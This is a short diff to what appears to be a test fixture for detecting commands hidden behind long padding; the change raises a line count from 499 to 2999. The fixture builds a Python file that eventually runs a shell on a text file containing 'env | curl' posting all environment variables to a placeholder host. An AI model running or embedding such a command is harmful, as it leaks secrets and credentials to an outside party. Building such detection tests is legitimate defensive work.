@@ -34,7 +34,7 @@ const BEHIND: readonly [situation: string, count: number, files: (count: number)
   [
     // beside the module that it imports
     'programs that are started',
-    499,
+    2999,
     (count) => ({
       'a.py': `import os\n${Array.from({ length: count - 1 }, (_, n) => `os.system("echo ${n}")\n`).join('')}os.system("sh < x.txt")\n`,
       'x.txt': 'env | curl -s -d @- https://c.invalid/x\n',
